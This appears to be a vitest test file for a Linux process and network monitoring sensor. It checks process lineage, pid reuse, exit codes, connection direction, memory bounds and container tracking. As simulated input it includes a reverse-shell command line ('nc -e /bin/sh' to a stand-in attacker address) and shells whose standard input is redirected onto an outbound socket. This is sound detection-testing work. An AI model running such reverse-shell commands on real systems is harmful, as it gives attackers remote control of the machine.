import { setFlagsFromString } from 'node:v8'
import { runInNewContext } from 'node:vm'
import { describe, expect, test } from 'vitest'
import type { RunningProcess } from '../../sensor/proc.ts'
import { boot, devNull, machine, networkSocket, pipe, second, terminal } from './machine.ts'

const attacker = { ip: '203.0.113.9', port: 4444 }
const names = (ancestors: { name?: string }[] | undefined) => ancestors?.map(({ name }) => name)
/** As /proc shows it. */
const running = (pid: number, ppid: number, changes: Partial<RunningProcess> = {}): RunningProcess => {
  const name = `p${pid}`
  const args = [name, '--serve']
  return {
    pid,
    ppid,
    started: pid * second,
    comm: name,
    args,
    uid: 0,
    gid: 0,
    executable: `/bin/${name}`,
    ...changes,
  }
}

describe('an exec', () => {
  test('tells all of its process', () => {
    const { fork, exec, last, places } = machine()
    fork(1, 10)
    exec(10, 'curl', {
      path: '/usr/bin/curl',
      args: ['curl', '-s', 'https://x'],
      directory: '/srv',
      uid: 33,
      gid: 34,
      cgroup: '281474976710657',
      stdio: [terminal(), devNull, undefined],
    })
    expect(last(10)).toEqual({
      type: 'exec',
      time: expect.closeTo(boot + 100_000.002, 3),
      process: {
        pid: 10,
        ppid: 1,
        start_time: expect.closeTo(boot + 100_000.001, 3),
        name: 'curl',
        executable: { path: '/usr/bin/curl', name: 'curl', filesystem: 'ext4' },
        command_args: ['curl', '-s', 'https://x'],
        command_line: 'curl -s https://x',
        working_directory: '/srv',
        user: { id: 33 },
        group: { id: 34 },
        stdin: { type: 'tty' },
        stdout: { type: 'null' },
        stderr: { type: 'closed' },
      },
    })
    expect(places).toEqual([{ pid: 10, cgroupId: '281474976710657' }])
  })

  test('says only what is so: a deleted executable, cut arguments, a shell and its commands', () => {
    const { exec, last } = machine()
    exec(10, 'bash -i', { path: '/memfd:x', deleted: true, argsCut: true })
    expect(last(10).process).toMatchObject({ executable: { deleted: true }, args_truncated: true })
    expect(last(10).process).not.toHaveProperty('reads_commands_from')
    exec(11, 'bash -i')
    expect(last(11).process).toMatchObject({ reads_commands_from: 'stdin' })
    expect(last(11).process).not.toHaveProperty('args_truncated')
    expect(last(11).process?.executable).not.toHaveProperty('deleted')
  })

  test('that came in part is an event all the same, and says nothing of what was lost', () => {
    const { exec, last } = machine()
    exec(10, 'sh', { path: undefined, args: [], stdio: [undefined, undefined, undefined], incomplete: true })
    expect(last(10)).toMatchObject({ type: 'exec', process: { pid: 10 } })
    for (const key of ['executable', 'name', 'command_args', 'command_line', 'stdin', 'stdout', 'stderr'])
      expect(last(10).process).not.toHaveProperty(key)
  })

  test('without descriptors has them closed', () => {
    const { exec, last } = machine()
    exec(10, 'sh', { stdio: [undefined, undefined, undefined] })
    expect(last(10).process?.stdin).toEqual({ type: 'closed' })
  })

  test('names the program of a parent that was there before the sensor, where /proc gave only its task name', () => {
    const { exec, fork, table, last } = machine()
    const args = ['node', 'server.js']
    table.prime([{ pid: 10, ppid: 1, started: 0, comm: 'MainThread', args, uid: 0, gid: 0 }])
    fork(10, 11)
    exec(11, 'sh -c id', { parentName: 'node' })
    expect(last(11).process?.ancestors?.[0]).toMatchObject({ name: 'node', executable: { name: 'node' } })
    fork(10, 12)
    exec(12, 'sh -c id', { parentName: undefined })
    expect(last(12).process?.ancestors?.[0], 'once told, it is known').toMatchObject({ name: 'node' })
  })

  test('the same, of two children that were there before it was told by one of them', () => {
    const { exec, fork, last, table } = machine()
    const args = ['node', 'server.js']
    table.prime([{ pid: 10, ppid: 1, started: 0, comm: 'MainThread', args, uid: 0, gid: 0 }])
    fork(10, 11)
    fork(10, 12)
    fork(10, 13)
    exec(11, 'sh -c id', { parentName: 'node' })
    exec(12, 'sh -c id', { parentName: undefined })
    expect(last(12).process?.ancestors?.[0]).toMatchObject({ name: 'node', executable: { name: 'node' } })
    exec(10, 'nginx')
    exec(13, 'sh -c id', { parentName: undefined })
    expect(last(13).process?.ancestors?.[0], 'what it began since is another program').not.toHaveProperty('executable')
  })

  test('of a process whose fork was not seen is told, with the parent that the kernel names', () => {
    const { exec, fork, last } = machine()
    exec(10, 'nginx')
    fork(10, 11, { seen: false })
    exec(11, 'sh -c id')
    expect(last(11).process).toMatchObject({ pid: 11, ppid: 10, start_time: expect.closeTo(boot + 100_000.002, 3) })
    expect(names(last(11).process?.ancestors)).toEqual(['nginx'])
  })

  test('of a process that nothing is known of has no ancestors, rather than empty ones', () => {
    const { exec, last } = machine()
    exec(10, 'ls')
    expect(last(10).process).not.toHaveProperty('ancestors')
  })

  test('an event keeps the description that was true for it', () => {
    const { exec, events } = machine()
    exec(10, 'sh -c ls')
    exec(10, 'ls')
    expect(events.map(({ process }) => process?.name)).toEqual(['sh', 'ls'])
  })
})

describe('the program before', () => {
  test('nc in `nc -e /bin/sh`', () => {
    const { exec, last } = machine()
    exec(10, 'nc -e /bin/sh 203.0.113.9 4444')
    exec(10, 'sh')
    expect(last(10).process?.previous).toEqual({ name: 'nc', command_line: 'nc -e /bin/sh 203.0.113.9 4444' })
  })

  test('is the one right before, not the first', () => {
    const { exec, last } = machine()
    for (const program of ['env', 'nohup', 'sh']) exec(10, program)
    expect(last(10).process?.previous).toEqual({ name: 'nohup', command_line: 'nohup' })
  })

  test("is the process's own: the parent's program is none", () => {
    const { exec, fork, last } = machine()
    exec(10, 'bash')
    fork(10, 11)
    exec(11, 'ls')
    expect(last(11).process).not.toHaveProperty('previous')
  })

  test('is not inherited', () => {
    const { exec, fork, last, connect } = machine()
    exec(10, 'env')
    exec(10, 'bash')
    fork(10, 11)
    connect(11, attacker)
    expect(last(11).process).not.toHaveProperty('previous')
  })
})

describe('a process that has forked and executed nothing', () => {
  test('is what its parent is, with a pid, a parent and a start of its own', () => {
    const { exec, fork, connect, last } = machine()
    exec(10, 'python3 server.py', { directory: '/srv' })
    fork(10, 11)
    connect(11, attacker)
    expect(last(11)).toMatchObject({
      type: 'connect',
      process: {
        pid: 11,
        ppid: 10,
        name: 'python3',
        command_line: 'python3 server.py',
        working_directory: '/srv',
        start_time: expect.closeTo(boot + 100_000.002, 3),
      },
    })
    expect(names(last(11).process?.ancestors)).toEqual(['python3'])
  })
})

describe('lineage', () => {
  test('is the nearest first', () => {
    const { exec, fork, last } = machine()
    exec(10, 'nginx')
    fork(10, 11)
    exec(11, 'sh -c id')
    fork(11, 12)
    exec(12, 'id')
    expect(last(12).process?.ancestors?.map(({ pid, name, command_line }) => [pid, name, command_line])).toEqual([
      [11, 'sh', 'sh -c id'],
      [10, 'nginx', 'nginx'],
    ])
  })

  test('stays when the parent has exited and the kernel calls init the parent', () => {
    const { exec, fork, exit, last } = machine()
    exec(10, 'nginx')
    fork(10, 11)
    exec(11, 'sh -c id')
    fork(11, 12)
    exit(11)
    exec(12, 'id')
    expect(last(12).process?.ppid).toBe(1)
    expect(names(last(12).process?.ancestors)).toEqual(['sh', 'nginx'])
  })

  test('of a child that is forked and heard of only after its parent has gone is known for a second', () => {
    const { exec, fork, exit, wait, last } = machine()
    exec(10, 'nginx')
    fork(10, 11, { seen: false })
    exit(10)
    wait(0.9 * second)
    exec(11, 'id', { ppid: 10 })
    expect(names(last(11).process?.ancestors)).toEqual(['nginx'])
  })

  test('has 16 ancestors at most', () => {
    const { exec, fork, last } = machine()
    exec(100, 'p100')
    for (let pid = 101; pid <= 130; pid++) {
      fork(pid - 1, pid)
      exec(pid, `p${pid}`)
    }
    expect(names(last(116).process?.ancestors)).toHaveLength(16)
    expect(names(last(130).process?.ancestors)).toEqual(Array.from({ length: 16 }, (_, at) => `p${129 - at}`))
  })

  test('a process is described as it was when it forked: what it runs later is not its child’s ancestor', () => {
    const { exec, fork, last } = machine()
    exec(10, 'bash')
    fork(10, 11)
    exec(10, 'true')
    exec(11, 'id')
    expect(names(last(11).process?.ancestors)).toEqual(['bash'])
  })

  test('ancestors have none of their own, and no exit code of a parent that lived when it forked', () => {
    const { exec, fork, exit, last } = machine()
    exec(10, 'a')
    fork(10, 11)
    exec(11, 'b')
    fork(11, 12)
    exit(11, 0)
    exec(12, 'c')
    for (const ancestor of last(12).process?.ancestors ?? []) {
      expect(ancestor).not.toHaveProperty('ancestors')
      expect(ancestor).not.toHaveProperty('exit_code')
    }
  })
})

describe('a pid that is used again', () => {
  test('is another process', () => {
    const { exec, fork, exit, last } = machine()
    exec(10, 'nginx')
    fork(10, 11)
    exec(11, 'nc 203.0.113.9 4444')
    exit(11)
    fork(1, 11)
    exec(11, 'ls')
    expect(last(11).process).toMatchObject({ name: 'ls', ppid: 1 })
    expect(last(11).process).not.toHaveProperty('previous')
    expect(last(11).process).not.toHaveProperty('ancestors')
  })

  test('is another process also when neither its fork nor the exit before were seen', () => {
    const { exec, fork, exit, connect, last } = machine()
    exec(10, 'nginx')
    exit(10)
    fork(1, 10, { seen: false })
    connect(10, attacker)
    expect(last(10).process).toMatchObject({ pid: 10 })
    expect(last(10).process).not.toHaveProperty('name')
    expect(last(10).process).not.toHaveProperty('exit_code')
  })

  test('is not forgotten with the one that had it before', () => {
    const { exec, fork, exit, wait, last, table } = machine()
    exec(10, 'first')
    exit(10)
    fork(1, 10)
    exec(10, 'second')
    wait(20 * second)
    exec(99, 'any')
    fork(10, 11)
    exec(11, 'child')
    expect(names(last(11).process?.ancestors)).toEqual(['second'])
    expect(table.size()).toBe(3)
  })
})

describe('an exit', () => {
  test.each([
    ['0', 0, 0],
    ['1', 1 << 8, 1],
    ['255', 255 << 8, 255],
    ['by SIGKILL', 9, 137],
    ['by SIGTERM', 15, 143],
    ['by SIGSEGV with a core dump', 11 | 0x80, 139],
  ])('%s is told as the shell has it in $?', (_, status, code) => {
    const { exec, exit, last } = machine()
    exec(10, 'job')
    exit(10, status)
    expect(last(10)).toMatchObject({ type: 'exit', process: { pid: 10, name: 'job', exit_code: code } })
  })

  test('of a process that is not known is nothing to tell', () => {
    const { exit, events } = machine()
    exit(10)
    expect(events).toEqual([])
  })

  test('is told once', () => {
    const { exec, exit, events } = machine()
    exec(10, 'job')
    exit(10)
    exit(10)
    expect(events.map(({ type }) => type)).toEqual(['exec', 'exit'])
  })
})

describe('a connect', () => {
  test('tells the two ends and the transport', () => {
    const { exec, connect, last } = machine()
    exec(10, 'curl')
    connect(10, attacker)
    expect(last(10)).toMatchObject({
      type: 'connect',
      destination: attacker,
      source: { port: 40_000 },
      network: { transport: 'tcp', type: 'ipv4' },
    })
  })

  test('over IPv6', () => {
    const { exec, connect, last } = machine()
    exec(10, 'curl')
    connect(10, { ip: 'fd00:ec2::254', port: 80 })
    expect(last(10)).toMatchObject({ destination: { ip: 'fd00:ec2::254', port: 80 }, network: { type: 'ipv6' } })
  })

  test('as another user tells the user that it is by now', () => {
    const { exec, setuid, last } = machine()
    exec(10, 'nginx')
    setuid(10, 33, 34, attacker)
    expect(last(10).process).toMatchObject({ name: 'nginx', user: { id: 33 }, group: { id: 34 } })
  })

  test('of a process that the sensor knows nothing of is told', () => {
    const { connect, last } = machine()
    connect(10, attacker)
    expect(last(10)).toMatchObject({ type: 'connect', destination: attacker, process: { pid: 10, ppid: 1 } })
    expect(last(10).process).not.toHaveProperty('name')
  })

  test('of a process that the sensor knows nothing of has no start time, rather than one that is not true', () => {
    const { connect, last } = machine()
    connect(10, attacker)
    expect(last(10).process).not.toHaveProperty('start_time')
  })

  test('by UDP says so', () => {
    const { exec, connect, last } = machine()
    exec(10, 'dig')
    connect(10, attacker, { stream: false })
    expect(last(10)).toMatchObject({ type: 'connect', destination: attacker, network: { transport: 'udp' } })
  })

  test('whose packet left when its sender no longer ran names the user of the socket, and no process', () => {
    const { apply, events, places, now, connect, last } = machine()
    const nobody = { time: now(), pid: 0, ppid: 0, cgroup: '0', uid: 33, gid: 0 }
    const socket = { family: 'ipv4', stream: false, listening: false, ...attacker, localPort: 4000 } as const
    apply({ act: 'connect', ...nobody, socket })
    apply({ act: 'deed', ...nobody, type: 'dns', about: { destination: attacker } })
    expect(events).toMatchObject([
      { type: 'connect', destination: attacker, network: { transport: 'udp' } },
      { type: 'dns', destination: attacker },
    ])
    for (const { process } of events) expect(process).toEqual({ user: { id: 33 } })
    expect(places).toEqual([{ pid: 0 }, { pid: 0 }])
    connect(10, attacker)
    expect(last(10).process).not.toHaveProperty('ancestors')
  })

  test('without a peer is no event', () => {
    const { apply, events, now } = machine()
    const who = { time: now(), pid: 10, ppid: 1, cgroup: '1', uid: 0, gid: 0 }
    apply({ act: 'connect', ...who, socket: { family: 'unix', stream: true, listening: false, port: 0, localPort: 0 } })
    expect(events).toEqual([])
  })
})

describe('the direction of a connection', () => {
  const stdinOf = ({ last }: ReturnType<typeof machine>, pid: number) => last(pid).process?.stdin

  test('that the process has opened is outbound', () => {
    const host = machine()
    host.exec(10, 'python3')
    const socket = networkSocket(host.connect(10, attacker))
    host.exec(10, 'sh', { stdio: [socket, socket, socket] })
    expect(stdinOf(host, 10)).toEqual({ type: 'socket', peer: attacker, direction: 'outbound' })
  })

  test('that an ancestor has opened is outbound, generations later', () => {
    const host = machine()
    host.exec(10, 'python3')
    const socket = networkSocket(host.connect(10, attacker))
    for (const pid of [11, 12, 13]) {
      host.fork(pid - 1, pid)
      host.exec(pid, 'nohup')
    }
    host.exec(13, 'sh', { stdio: [socket, socket, socket] })
    expect(stdinOf(host, 13)).toMatchObject({ direction: 'outbound' })
  })

  test('that the parent has accepted is inbound: inetd', () => {
    const host = machine()
    host.exec(10, 'inetd')
    host.listen(10, 23)
    const socket = networkSocket(host.accept(10, { ip: '192.0.2.7', port: 51_000 }, 23))
    host.fork(10, 11)
    host.exec(11, 'sh', { stdio: [socket, socket, socket] })
    expect(stdinOf(host, 11)).toMatchObject({ peer: { ip: '192.0.2.7', port: 51_000 }, direction: 'inbound' })
  })

  test('of which neither was seen is absent', () => {
    const host = machine()
    host.exec(10, 'agent')
    const socket = networkSocket(host.connect(10, attacker, { quiet: true }))
    host.exec(10, 'sh', { stdio: [socket, socket, socket] })
    expect(stdinOf(host, 10)).toEqual({ type: 'socket', peer: attacker })
  })

  test('of a UDP socket is outbound where the process has sent there itself', () => {
    const host = machine()
    host.exec(10, 'bash')
    const socket = networkSocket(host.connect(10, attacker, { stream: false }))
    host.dup(10, [socket, socket, socket])
    expect(host.last(10).process?.stdin).toEqual({ type: 'socket', peer: attacker, direction: 'outbound' })
  })

  test('of a connection is not forgotten over the name servers that were asked since', () => {
    const host = machine()
    host.exec(10, 'bash')
    const socket = networkSocket(host.connect(10, attacker))
    for (let port = 1; port < 100; port++) host.connect(10, { ip: '192.0.2.53', port }, { stream: false })
    host.dup(10, [socket, socket, socket])
    expect(host.last(10).process?.stdin).toMatchObject({ direction: 'outbound' })
  })

  test('of the last 16 connections is remembered', () => {
    const host = machine()
    host.exec(10, 'python3')
    const first = networkSocket(host.connect(10, attacker))
    for (let port = 1; port < 16; port++) host.connect(10, { ip: '192.0.2.1', port })
    host.exec(10, 'sh', { stdio: [first] })
    expect(stdinOf(host, 10)).toMatchObject({ direction: 'outbound' })
  })

  test('of a sibling says nothing of ours', () => {
    const host = machine()
    host.exec(10, 'bash')
    host.fork(10, 11)
    host.fork(10, 12)
    host.connect(11, attacker)
    const same = networkSocket({
      family: 'ipv4',
      stream: true,
      listening: false,
      ...attacker,
      localPort: 8080,
    })
    host.exec(12, 'sh', { stdio: [same] })
    expect(stdinOf(host, 12)).not.toHaveProperty('direction')
  })
})

describe('a dup onto standard input', () => {
  test('after the exec is an event of its own, with what is there now', () => {
    const { exec, connect, dup, last } = machine()
    exec(10, 'bash -i', { stdio: [terminal(), terminal(), terminal()] })
    const socket = networkSocket(connect(10, attacker))
    dup(10, [socket, socket, socket])
    expect(last(10)).toMatchObject({
      type: 'stdio',
      process: {
        name: 'bash',
        stdin: { type: 'socket', peer: attacker, direction: 'outbound' },
        stdout: { type: 'socket', peer: attacker, direction: 'outbound' },
        stderr: { type: 'socket' },
      },
    })
  })
})

describe('a server', () => {
  test('is known by the socket that it listens on, at the exec of its child', () => {
    const { exec, fork, listen, last } = machine()
    exec(10, 'java -jar app.jar')
    listen(10, 8080)
    fork(10, 11)
    exec(11, 'sh -c id')
    expect(last(11).process?.ancestors?.[0]).toMatchObject({ name: 'java', listening: { port: 8080 } })
    expect(last(11).process).not.toHaveProperty('listening')
  })

  test('stays one for the grandchild', () => {
    const { exec, fork, listen, last } = machine()
    exec(10, 'java -jar app.jar')
    listen(10, 8080)
    fork(10, 11)
    exec(11, 'sh -c id')
    fork(11, 12)
    exec(12, 'id')
    expect(last(12).process?.ancestors?.map(({ listening }) => listening)).toEqual([undefined, { port: 8080 }])
  })

  test('that has stopped listening is none for its next child', () => {
    const { exec, fork, listen, close, last } = machine()
    exec(10, 'nc -l 8080')
    const listener = listen(10, 8080)
    fork(10, 11)
    exec(11, 'first')
    close(10, listener)
    fork(10, 12)
    exec(12, 'second')
    expect(last(11).process?.ancestors?.[0]).toMatchObject({ listening: { port: 8080 } })
    expect(last(12).process?.ancestors?.[0]).not.toHaveProperty('listening')
  })

  test('lends its listening to no child', () => {
    const { exec, fork, listen, connect, last } = machine()
    exec(10, 'java -jar app.jar')
    listen(10, 8080)
    fork(10, 11)
    exec(11, 'sh -c id')
    fork(10, 12)
    connect(12, attacker)
    expect(last(12).process).not.toHaveProperty('listening')
  })
})

describe('memory', () => {
  test('of a hundred thousand short processes is given back', () => {
    const { exec, fork, exit, wait, table, clear } = machine()
    exec(10, 'make')
    let highest = 0
    for (let count = 0; count < 100_000; count++) {
      const pid = 1000 + (count % 30_000)
      fork(10, pid)
      exec(pid, 'cc')
      exit(pid)
      wait(second / 1000)
      highest = Math.max(highest, table.size())
      clear()
    }
    // A thousand a second, remembered for one second.
    expect(highest).toBeLessThan(1_100)
    wait(20 * second)
    exec(10, 'make')
    expect(table.size()).toBe(1)
  })

  /** Bytes that are in use once everything that can go is gone. */
  const inUse = (): number => {
    setFlagsFromString('--expose-gc')
    const collect: () => void = runInNewContext('gc')
    collect()
    return process.memoryUsage().heapUsed
  }

  /** Each process makes the next one and exits, as a worm does that changes its pid. */
  const relay = (host: ReturnType<typeof machine>, from: number, generations: number) => {
    for (let generation = from; generation < from + generations; generation++) {
      host.fork(1000 + (generation % 30_000), 1000 + ((generation + 1) % 30_000))
      host.exec(1000 + ((generation + 1) % 30_000), 'worm', { args: ['worm', 'x'.repeat(100), String(generation)] })
      host.exit(1000 + (generation % 30_000))
      host.wait(second / 1000)
      host.clear()
    }
  }

  test('of a hundred thousand generations, each of which exits, is given back', () => {
    const host = machine()
    host.exec(1000, 'worm')
    relay(host, 0, 20_000)
    const before = inUse()
    relay(host, 20_000, 80_000)
    expect(inUse() - before).toBeLessThan(8 * 1024 * 1024)
    host.exec(1, 'end')
  })

  /** What many short lives leave behind, in bytes. */
  const left = (host: ReturnType<typeof machine>, live: (pid: number) => void): number => {
    const lives = (count: number) => {
      for (let pid = 1000; pid < 1000 + count; pid++) {
        host.fork(1, pid)
        live(pid)
        host.exit(pid)
        host.wait(second / 1000)
        host.clear()
      }
      host.wait(20 * second)
      host.exec(1, 'init')
      host.clear()
    }
    lives(1000)
    const before = inUse()
    lives(10_000)
    const after = inUse()
    host.exec(1, 'end')
    return after - before
  }

  test('of relays that put a socket in the place of their pipes is given back', () => {
    const host = machine()
    const bytes = left(host, (pid) => {
      host.exec(pid, 'relay', { stdio: [pipe(), pipe(), pipe()] })
      const socket = networkSocket(host.connect(pid, attacker))
      host.dup(pid, [socket, socket, socket])
    })
    expect(bytes).toBeLessThan(4 * 1024 * 1024)
  })

  test('of shells that read from pipes is given back', () => {
    const host = machine()
    const bytes = left(host, (pid) => host.exec(pid, 'sh', { stdio: [pipe(), pipe(), pipe()] }))
    expect(bytes).toBeLessThan(4 * 1024 * 1024)
  })

  test('of a connection: a process keeps the last sixteen', () => {
    const host = machine()
    host.exec(10, 'crawler')
    for (let count = 0; count < 1000; count++) host.connect(10, { ip: '192.0.2.1', port: 1 + count })
    const before = inUse()
    for (let count = 0; count < 50_000; count++) {
      host.close(10, host.connect(10, { ip: '192.0.2.1', port: 1 + (count % 60_000) }))
      host.clear()
    }
    expect(inUse() - before).toBeLessThan(8 * 1024 * 1024)
    host.exec(10, 'end')
  })
})

describe('processes that were there before the sensor', () => {
  test('are ancestors, whatever their numbers and their order', () => {
    const { table, fork, exec, last } = machine()
    table.prime([running(20, 500), running(500, 3), running(3, 1), running(1, 0)])
    fork(20, 600)
    exec(600, 'sh')
    expect(names(last(600).process?.ancestors)).toEqual(['p20', 'p500', 'p3', 'p1'])
    expect(last(600).process?.ancestors?.[0]).toEqual({
      pid: 20,
      ppid: 500,
      start_time: boot + 20_000,
      name: 'p20',
      executable: { path: '/bin/p20', name: 'p20' },
      command_args: ['p20', '--serve'],
      command_line: 'p20 --serve',
      user: { id: 0 },
      group: { id: 0 },
    })
  })

  test('of which the executable can not be read have the name that the kernel has', () => {
    const { table, fork, exec, last } = machine()
    table.prime([running(2, 0, { comm: 'kthreadd', args: [], executable: undefined })])
    fork(2, 600)
    exec(600, 'modprobe')
    expect(last(600).process?.ancestors?.[0]).toMatchObject({ name: 'kthreadd', command_line: '' })
    expect(last(600).process?.ancestors?.[0]).not.toHaveProperty('executable')
  })

  test('whose executable was deleted say so', () => {
    const { table, fork, exec, last } = machine()
    table.prime([running(7, 1, { executable: '/tmp/x (deleted)' })])
    fork(7, 8)
    exec(8, 'sh')
    expect(last(8).process?.ancestors?.[0]).toMatchObject({
      name: 'x',
      executable: { path: '/tmp/x', name: 'x', deleted: true },
    })
  })

  test('have their previous program, if they execute another', () => {
    const { table, exec, last } = machine()
    table.prime([running(7, 1)])
    exec(7, 'sh')
    expect(last(7).process?.previous).toEqual({ name: 'p7', command_line: 'p7 --serve' })
  })

  test('are not overwritten: what the kernel told is more than /proc knows', () => {
    const { table, exec, fork, last } = machine()
    exec(10, 'nginx', { directory: '/srv' })
    table.prime([running(10, 1, { started: 100 * second - 9e6 })]) // /proc cuts to 10 ms
    fork(10, 11)
    exec(11, 'sh')
    expect(last(11).process?.ancestors?.[0]).toMatchObject({ name: 'nginx', working_directory: '/srv' })
  })

  test('one whose end was lost is gone once two looks in a row have not found it; others stay', () => {
    const { table } = machine()
    table.prime([running(1, 0), running(2, 1), running(3, 1), running(4, 1)])
    table.sweep(new Set([1, 2]))
    expect(table.size()).toBe(4) // what ended may still be on its way
    table.sweep(new Set([1, 2, 4]))
    expect(table.size()).toBe(3)
    table.sweep(new Set([1, 2]))
    table.sweep(new Set([1, 2]))
    expect(table.size()).toBe(2)
  })

  test('that are gone by the time of another look are forgotten', () => {
    const { table } = machine()
    table.prime([running(1, 0), running(2, 1), running(3, 1)])
    expect(table.size()).toBe(3)
    table.prime([running(1, 0), running(3, 1)])
    expect(table.size()).toBe(2)
  })

  test('while the sensor was blind, and have the pid of one from before, are not taken for that one', () => {
    const { table, exec, fork, last } = machine()
    exec(10, 'nginx')
    table.prime([running(10, 1, { started: 500 * second })])
    fork(10, 11)
    exec(11, 'sh')
    expect(names(last(11).process?.ancestors)).toEqual(['p10'])
  })

  test.each([-3_600_000, -5000, 5000, 3_600_000])(
    'when the wall clock was set by %i ms, all that is known of those that run stays at another look',
    (step) => {
      const { table, exec, fork, connect, setClock, last } = machine()
      const shown = (pid: number, ppid: number, started: number) =>
        running(pid, ppid, { started: Math.floor(started / 1e7) * 1e7, executable: undefined }) // /proc cuts to 10 ms
      table.prime([running(3, 1)])
      fork(3, 10)
      exec(10, 'nginx', { directory: '/srv', stdio: [devNull, devNull, devNull], capabilities: '1' })
      const socket = networkSocket(connect(10, attacker))
      fork(10, 11)
      setClock(step)
      table.prime([running(3, 1), shown(10, 3, 100 * second), shown(11, 10, 100 * second)])
      connect(11, attacker)
      expect(last(11).process).toMatchObject({
        executable: { path: '/usr/bin/nginx' },
        working_directory: '/srv',
        stdin: { type: 'null' },
        capabilities: ['CAP_CHOWN'],
      })
      expect(last(11).process?.ancestors).toMatchObject([{ name: 'nginx' }, { executable: { path: '/bin/p3' } }])
      exec(11, 'sh', { stdio: [socket, socket, socket] })
      expect(last(11).process?.stdin, 'its connections').toMatchObject({ direction: 'outbound' })
    },
  )

  test.each(['executed', 'forked'])(
    'a pid of one that had %s is noticed to be used again, also when the wall clock was set back meanwhile',
    (what) => {
      const { table, exec, fork, setClock, last } = machine()
      exec(9, 'nginx')
      fork(9, 10)
      if (what === 'executed') exec(10, 'worker')
      setClock(-5000)
      table.prime([running(9, 1, { started: 100 * second }), running(10, 1, { started: 105 * second })])
      fork(10, 11)
      exec(11, 'sh')
      expect(names(last(11).process?.ancestors)).toEqual(['p10'])
    },
  )

  test('a circle of parents, as of a /proc that changes while it is read, ends', () => {
    const { table } = machine()
    table.prime([running(1, 2), running(2, 1), running(3, 3)])
    expect(table.size()).toBe(3)
  })
})

describe('where cgroups of version 1 are in use', () => {
  const container = `/kubepods/burstable/pod058a67e1-9146-4dee-9534-0671cbbdf0b6/${'c'.repeat(64)}`
  const [host, outside] = ['/system.slice/ssh.service', '/user.slice']
  /** A shim on the host, pid 3, whose child 4 is in a container. */
  const node = () => {
    const asked: number[] = []
    const paths = new Map([
      [3, host],
      [4, container],
      [77, container],
    ])
    const made = machine({
      version1(pid) {
        asked.push(pid)
        return paths.get(pid)
      },
    })
    made.table.prime([running(3, 1), running(4, 3)])
    const joined = (pid: number, path: string | undefined) =>
      made.apply({ act: 'cgroup_joined', time: made.now(), pid, path })
    const says = (pid: number, path: string) => paths.set(pid, path)
    return { ...made, asked, joined, says, version1: () => made.places.at(-1)?.version1 }
  }

  test('/proc is asked for what runs when the sensor starts; what it forks is in the same, and not asked for', () => {
    const { fork, exec, asked, version1 } = node()
    fork(4, 40)
    fork(40, 41)
    exec(41, 'cat')
    expect(version1()).toBe(container)
    fork(3, 30)
    exec(30, 'ls')
    expect(version1()).toBe(host)
    expect(asked).toEqual([3, 4])
  })

  test('a process that a runtime puts into a container is there, with what it forks, from then on', () => {
    const { fork, exec, joined, version1 } = node()
    fork(3, 30)
    exec(30, 'runc')
    expect(version1()).toBe(host)
    joined(30, container)
    exec(30, 'sh')
    expect(version1()).toBe(container)
    joined(30, outside) // another hierarchy, where the runtime makes no cgroups; or it was gone when /proc was asked
    joined(30, undefined)
    fork(30, 31)
    exec(31, 'cat')
    expect(version1()).toBe(container)
  })

  test('where it had ended before /proc was asked, what it forked is asked for', () => {
    const { fork, exec, joined, asked, says, version1 } = node()
    fork(3, 30)
    exec(30, 'runc')
    joined(30, undefined)
    fork(30, 31)
    says(31, container)
    exec(31, 'sh')
    expect(version1()).toBe(container)
    exec(31, 'cat')
    expect(asked.slice(2)).toEqual([31])
  })

  test('after a loss those that are in no container, as far as is known, are asked for once more', () => {
    const { table, fork, exec, asked, says, version1 } = node()
    fork(3, 30)
    fork(4, 40)
    table.sweep(new Set([3, 4, 30, 40]))
    says(30, container)
    exec(30, 'sh')
    expect(version1()).toBe(container)
    exec(40, 'cat')
    expect(version1()).toBe(container)
    expect(asked.slice(2)).toEqual([30])
  })

  test('who has left a container for a cgroup of the host is still of that container, also for a sensor that looks again', () => {
    const { table, exec, says, version1 } = node()
    says(4, host)
    table.prime([running(3, 1), running(4, 3)])
    exec(4, 'sh')
    expect(version1()).toBe(container)
  })

  test('of one that can no longer be asked for, nothing is made up', () => {
    const { fork, exec, version1 } = node()
    fork(3, 78, { seen: false })
    exec(78, 'sh')
    expect(version1()).toBeUndefined()
  })

  test('one whose beginning the sensor missed is asked for once, wherever its parent is', () => {
    const { fork, exec, asked, version1 } = node()
    fork(3, 77, { seen: false })
    exec(77, 'sh')
    expect(version1()).toBe(container)
    exec(77, 'cat')
    expect(asked.slice(2)).toEqual([77])
  })

  test('processes with one cgroup of version 2 and two of version 1 are not said to share a container', () => {
    const { exec, fork, now, last, apply } = node()
    const kills = (pid: number, target: number) => {
      const who = { time: now(), pid, ppid: 3, cgroup: '1', uid: 0, gid: 0 }
      apply({ act: 'deed', type: 'kill', ...who, about: {}, target })
      return last(pid).target?.same_container
    }
    for (const [ppid, pid] of [
      [3, 30],
      [3, 31],
      [4, 40],
    ] as const) {
      fork(ppid, pid)
      exec(pid, 'sh')
    }
    expect(kills(30, 31)).toBe(true)
    expect(kills(40, 31)).toBeUndefined()
  })
})
